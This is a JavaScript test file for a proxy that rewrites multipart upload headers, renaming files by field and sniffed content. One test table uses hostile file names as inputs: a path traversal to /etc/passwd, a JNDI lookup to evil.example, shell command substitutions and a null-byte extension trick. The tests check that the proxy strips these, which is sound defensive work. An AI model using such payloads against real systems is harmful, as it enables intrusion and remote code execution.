// What of a multipart body reaches the service: headers that the proxy wrote, names by field and bytes, the same length.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import test from 'node:test';
import { createMultipartRewriter } from '../../../web/proxy/body/multipart-rewriter.js';
import { boundaryOf } from '../../../web/proxy/body/multipart-scanner.js';
import { ProxyError } from '../../../web/proxy/errors.js';
import { parseForm } from '../../../web/sandbox/form.js';
import { loadCore, withBytes } from '../../wasm/core.mjs';
import { FILE } from '../helpers.mjs';
import { randomInts } from '../scanner-cases.mjs';

const B = '----netocrTestBoundary0123456789';
const JPEG = Buffer.from('/9j/4AAQSkZJRgABAQAAAQABAAD/2Q==', 'base64').toString('latin1');
const PNG = '\x89PNG\r\n\x1a\n\0\0\0\rIHDR';

const part = (header, value, boundary = B) => `--${boundary}\r\n${header}\r\n\r\n${value}\r\n`;
const named = (name) => `Content-Disposition: form-data; name="${name}"`;
const file = (name, filename, type) =>
  `${named(name)}; filename="${filename}"${type ? `\r\nContent-Type: ${type}` : ''}`;
const GOOD_FILE = part(file('file2', 'file2.png', 'image/png'), PNG);
const body = (...parts) => `${part(named('typeId'), '9999')}${parts.join('')}--${B}--\r\n`;

/** The body as it goes on, or the refusal's message. */
function rewritten(chunks, boundary = B) {
  const rewriter = createMultipartRewriter(FILE, boundary);
  try {
    const out = chunks.map((chunk) => Buffer.from(rewriter.push(chunk)));
    rewriter.end();
    return Buffer.concat(out).toString('latin1');
  } catch (error) {
    if (!(error instanceof ProxyError) || error.code !== 'REQUEST_REFUSED') throw error;
    return error.message;
  }
}

/** The one result of all cuts in two, and of byte by byte. */
function rewrittenAnyhow(text, boundary = B) {
  const bytes = Buffer.from(text, 'latin1');
  const copy = Buffer.from(bytes);
  const whole = rewritten([bytes], boundary);
  const single = Array.from(bytes, (byte) => Uint8Array.of(byte));
  assert.equal(rewritten(single, boundary), whole);
  for (let at = 1; at < bytes.length; at += 1)
    assert.equal(rewritten([bytes.subarray(0, at), bytes.subarray(at)], boundary), whole, `cut at ${at}`);
  assert.ok(bytes.equals(copy), 'the pieces themselves are not written to');
  return whole;
}

/** The headers of the part `file1` as they go on. */
function headerOf(header, value) {
  const text = rewrittenAnyhow(body(part(header, value), GOOD_FILE));
  const [, written] = text.split(`--${B}\r\n`).slice(1, 3);
  if (!written) return text;
  assert.equal(text.length, body(part(header, value), GOOD_FILE).length);
  return written.slice(0, written.indexOf('\r\n\r\n'));
}

/** With spaces after its last colon, up to a length. */
function padded(header, length) {
  const at = header.lastIndexOf(':') + 1;
  return header.slice(0, at) + ' '.repeat(length - header.length) + header.slice(at);
}

test('a file is named after its field and its bytes, whatever the page calls it', () => {
  const jpg = file('file1', 'file1.jpg', 'image/jpeg');
  const table = [
    [jpg, JPEG, jpg],
    [file('file1', '../../../../etc/passwd', 'image/jpeg'), JPEG, jpg],
    [file('file1', '$' + '{jndi:ldap://evil.example/a}', 'image/jpeg'), JPEG, jpg],
    [file('file1', 'a.jpg $(id) `id` |id', 'image/jpeg'), JPEG, jpg],
    [file('file1', 'shell.jsp%00.jpg', 'image/x-anything'), JPEG, jpg],
    [file('file1', '\xe8\xba\xab\xe4\xbb\xbd\xe8\xaf\x81.jpg', 'image/jpeg'), JPEG, jpg],
    [file('file1', 'photo.jpg', 'application/octet-stream'), JPEG, jpg],
    [jpg, PNG, file('file1', 'file1.png', 'image/png')],
    [file('file1', 'a.jsp', 'application/octet-stream'), '<%@ page %>', file('file1', 'file1.bin')],
    [
      file('file1', 'page-of.jsp', 'application/octet-stream'),
      '<%@ page %>',
      file('file1', 'file1.bin', 'application/octet-stream'),
    ],
    // No room for the content type as well: the name alone.
    [file('file1', 'blob', 'image/jpeg'), JPEG, file('file1', 'file1.jpg')],
    [jpg, 'no picture', file('file1', 'file1.bin')],
    [file('file1', 'photo.jpg'), JPEG, file('file1', 'file1.jpg')],
    [`content-disposition:form-data;name="file1";filename="card.jpeg"`, JPEG, /shorter than the one/],
    [file('file1', 'a.jpg'), JPEG, /shorter than the one/],
  ];
  for (const [header, value, expected] of table) {
    const written = headerOf(header, value);
    if (expected instanceof RegExp) assert.match(written, expected, header);
    else assert.equal(written, padded(expected, header.length), header);
  }
});

test('the other parts have a header of ours too', () => {
  const table = [
    [named('typeId'), named('typeId')],
    [`content-disposition: form-data; name="typeId"`, named('typeId')],
    [`content-disposition:form-data;name="typeId"`, named('typeId').replaceAll(' ', '')],
    [`${named('typeId')}\r\nContent-Type: text/plain`, named('typeId')],
  ];
  for (const [header, expected] of table) {
    const text = rewrittenAnyhow(
      `${part(header, '9999')}${part(file('file1', 'file1.jpg', 'image/jpeg'), JPEG)}${GOOD_FILE}--${B}--`,
    );
    assert.equal(text.split('\r\n\r\n')[0], `--${B}\r\n${padded(expected, header.length)}`);
  }
});

test('files that are shorter than what is looked at', () => {
  for (const value of ['x', '\r\n', JPEG.slice(0, 3), '\x89PNG', 'BM', '\0\0\0\x0cjP  ']) {
    const header = file('file1', 'a-rather-long-name.jpeg', 'application/octet-stream');
    const kind = value === JPEG.slice(0, 3) ? 'file1.jpg' : 'file1.bin';
    assert.match(headerOf(header, value), new RegExp(`; filename="${kind}"`), JSON.stringify(value));
  }
});

const KNOWN = /^(jpeg|png|bmp|tiff|wsq|jp2|j2k|unknown)$/;

/** Parts as the platform's reader and the sandbox's see them. */
async function readBy(text, contentType) {
  const bytes = Buffer.from(text, 'latin1');
  const form = await new Response(bytes, { headers: { 'content-type': contentType } }).formData();
  const theirs = [];
  for (const [name, value] of form) {
    if (typeof value === 'string') theirs.push([name, value]);
    else theirs.push([name, value.name, Buffer.from(await value.arrayBuffer()).toString('latin1')]);
  }
  const { fields, problem } = parseForm(contentType, bytes);
  assert.equal(problem, null);
  for (const [name, ...rest] of theirs) {
    const field = fields.get(name);
    assert.equal(field.text ?? Buffer.from(field.file).toString('latin1'), rest.at(-1));
  }
  assert.equal(fields.size, theirs.length);
  return theirs;
}

test('the platform’s reader and the sandbox’s find the files under their new names', async () => {
  const contentType = `multipart/form-data; boundary=${B}`;
  const random = randomInts(11);
  for (let round = 0; round < 300; round += 1) {
    const name = Array.from({ length: 1 + random(200) }, () => '$(){}/.:%'[random(9)]).join('');
    const type = ['image/jpeg', 'image/png', 'application/octet-stream'][random(3)];
    const value = [JPEG, PNG, 'x', `${JPEG}\r\n--`][random(4)];
    const text = rewritten([Buffer.from(body(part(file('file1', name, type), value), GOOD_FILE), 'latin1')]);
    const kind = value.startsWith('\xff') ? 'jpg' : value === PNG ? 'png' : 'bin';
    assert.deepEqual(
      await readBy(text, contentType),
      [
        ['typeId', '9999'],
        ['file1', `file1.${kind}`, value],
        ['file2', 'file2.png', PNG],
      ],
      name,
    );
  }
});

test('what the client package sends goes on byte for byte, for every kind that the service knows', async () => {
  const { sniff } = JSON.parse(readFileSync(new URL('../../contract/sniff.json', import.meta.url), 'utf8'));
  const core = await loadCore();
  let count = 0;
  for (const { name, input, expect } of sniff) {
    const bytes = Buffer.from(input.base64, 'base64');
    if (bytes.length === 0 || !KNOWN.test(expect.image)) continue;
    const {
      ok,
      contentType,
      body: made,
    } = withBytes(core, [bytes, bytes], (parts) => core.buildRequest('matchIdCardFile', parts, 1, count));
    assert.ok(ok, name);
    const sent = Buffer.from(made).toString('latin1');
    assert.equal(rewrittenAnyhow(sent, boundaryOf(contentType)), sent, name);
    count += 1;
  }
  assert.ok(count > 30);
});

test('generated bodies: chunks and the whole agree, nothing of the page’s names is left', () => {
  const random = randomInts(20_261_201);
  let accepted = 0;
  for (let round = 0; round < 2000; round += 1) {
    const secretName = `PLANTED${'x'.repeat(random(60))}`;
    const type = ['', 'image/PLANTED', 'application/octet-stream'][random(3)];
    const value = Array.from(
      { length: 1 + random(300) },
      () => ['\r\n', '--', JPEG, 'a', '\xff', B.slice(0, 9)][random(6)],
    ).join('');
    const text = body(part(file('file1', secretName, type), value), GOOD_FILE);
    const bytes = Buffer.from(text, 'latin1');
    const chunks = [];
    for (let at = 0; at < bytes.length; ) {
      const size = 1 + random(random(2) ? 8 : 200);
      chunks.push(bytes.subarray(at, at + size));
      at += size;
    }
    const whole = rewritten([bytes]);
    assert.equal(rewritten(chunks), whole);
    if (whole.length !== text.length) continue;
    accepted += 1;
    assert.ok(!whole.includes('PLANTED'));
    // Nothing but the headers differs.
    const withoutHeaders = (it) => it.replaceAll(new RegExp(`(--${B}\r\n)[^]*?(?=\r\n\r\n)`, 'g'), '$1');
    assert.equal(withoutHeaders(whole), withoutHeaders(text));
  }
  assert.ok(accepted > 1000, `${accepted} were accepted`);
});
